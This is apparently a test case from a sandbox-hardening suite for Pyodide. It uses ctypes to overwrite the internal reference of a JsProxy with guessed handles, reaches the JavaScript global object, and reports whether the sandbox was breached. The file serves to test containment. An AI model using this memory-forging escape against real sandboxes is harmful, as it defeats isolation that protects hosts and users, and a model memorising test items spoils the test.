# id: jsbridge-forged-reference
# category: js-bridge
# goal: overwrite the reference inside a JsProxy with ctypes, so that it becomes a proxy of any object of JavaScript
# success-if: BREACH-HARDENING: the global object was reached
# level: hardening
# with: prelude.py

try:
    import ctypes

    from pyodide.ffi import to_js

    proxy = to_js([1])
    words = (ctypes.c_uint32 * 10).from_address(id(proxy))
    own = words[9]
    found = None
    # What the table of JavaScript objects holds first: Pyodide's own objects. A wrong guess ends the interpreter.
    for reference in (7, 0x0400000B):
        words[9] = reference
        try:
            scope = proxy.config.jsglobals
            found = [name for name in ("setTimeout", "WebAssembly", "Blob", "Deno") if hasattr(scope, name)]
        finally:
            words[9] = own
        if found:
            break
    show("BREACH-HARDENING" if found else "CONTAINED", found)
except BaseException as error:
    show("CONTAINED", f"{type(error).__name__}: {error}")
